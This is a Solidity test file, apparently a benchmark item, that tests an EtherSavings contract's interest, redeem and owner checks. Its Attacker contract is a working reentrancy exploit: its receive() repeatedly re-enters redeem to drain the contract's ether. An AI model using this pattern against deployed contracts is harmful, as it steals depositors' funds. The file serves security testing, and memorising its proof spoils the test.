// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./EtherSavings.sol";

// assay-canary-74db11c5-c007-41f2-8078-92345c362c72

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address payable private constant OWNER = address(0x09E);
    uint256 private constant START = 1_600_000_000;

    EtherSavings private savings;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.prank(OWNER);
        savings = new EtherSavings(1e9);
        vm.deal(OWNER, 2 ether);
        vm.prank(OWNER);
        savings.addReserves{value: 1 ether}();
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANA);
        savings.supply{value: 10 ether}();
        mallory = new Attacker(savings);
        vm.deal(address(mallory), 2 ether);
    }

    function test_Regular() public {
        vm.warp(START + 1_000_000);
        savings.accrueInterest();
        require(savings.balanceOfStored(ANA) == 10.01 ether && savings.totalReserves() == 0.99 ether, "interest");
        vm.prank(BEN);
        savings.supply{value: 5 ether}();
        vm.prank(ANA);
        savings.redeem(5.01 ether);
        require(ANA.balance == 15.01 ether && savings.totalSupplied() == 10 ether, "redeemed");
        vm.prank(OWNER);
        savings.setSupplyRate(2e9);
        vm.warp(START + 2_000_000);
        vm.prank(BEN);
        savings.redeem(1.01 ether);
        require(savings.balanceOfStored(BEN) == 4 ether && savings.totalReserves() == 0.97 ether, "higher");
        vm.prank(OWNER);
        savings.reduceReserves(0.96 ether);
        require(OWNER.balance == 1.96 ether, "reduced");
        vm.warp(START + 3_000_000);
        savings.accrueInterest();
        require(savings.totalReserves() == 0 && savings.totalSupplied() == 9.02 ether, "all");
        uint256 left = savings.balanceOfStored(ANA);
        vm.prank(ANA);
        savings.redeem(left);
        left = savings.balanceOfStored(BEN);
        vm.prank(BEN);
        savings.redeem(left);
        require(address(savings).balance < 10, "crumbs");
        vm.prank(OWNER);
        savings.transferOwnership(ANA);
        vm.prank(ANA);
        savings.renounceOwnership();
    }

    function test_RefusesSuppliers() public {
        vm.startPrank(ANA);
        vm.expectRevert("supply: amount is zero");
        savings.supply();
        vm.expectRevert("redeem: amount is zero");
        savings.redeem(0);
        vm.expectRevert("redeem: amount exceeds the balance");
        savings.redeem(10 ether + 1);
        vm.expectRevert("Ownable: caller is not the owner");
        savings.reduceReserves(1);
        vm.expectRevert("Ownable: caller is not the owner");
        savings.setSupplyRate(1);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.startPrank(OWNER);
        vm.expectRevert("reduceReserves: amount exceeds the reserves");
        savings.reduceReserves(1 ether + 1);
        vm.expectRevert("setSupplyRate: rate is too high");
        savings.setSupplyRate(3.2e9 + 1);
        vm.expectRevert("setSupplyRate: rate is too high");
        new EtherSavings(3.2e9 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 12 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(savings);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    EtherSavings private savings;

    constructor(EtherSavings savings_) public {
        savings = savings_;
    }

    function run() external {
        savings.supply{value: 2 ether}();
        savings.redeem(2 ether);
    }

    receive() external payable {
        if (address(savings).balance >= 2 ether) {
            savings.redeem(2 ether);
        }
    }
}
